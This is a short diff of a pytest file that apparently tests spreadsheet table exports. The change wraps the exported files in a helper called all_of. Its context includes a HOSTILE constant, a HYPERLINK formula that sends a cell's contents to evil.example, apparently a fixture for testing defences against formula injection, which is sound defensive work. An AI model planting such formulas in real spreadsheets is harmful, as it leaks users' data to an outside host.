@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from goalsite.exchange.tables import table_files
-from tests.pages.desks import desk_of
+from tests.pages.desks import all_of, desk_of
 
 HOSTILE = '=HYPERLINK("https://evil.example?x="&A1,"-")'
 FILES = {
@@ -33,7 +33,7 @@ def files_of(goals: dict[str, str], *, whole: bool = False) -> dict[str, bytes]:
     """The files with tables for these goals, those of each goal, too, if `whole`."""
     desk = desk_of(goals)
     outputs = replace(desk.config.outputs, goal_tables=whole)
-    return dict(table_files(replace(desk, config=replace(desk.config, outputs=outputs))))
+    return dict(all_of(table_files(replace(desk, config=replace(desk.config, outputs=outputs)))))
 
 
 def rows_of(content: bytes) -> list[dict[str, str]]:
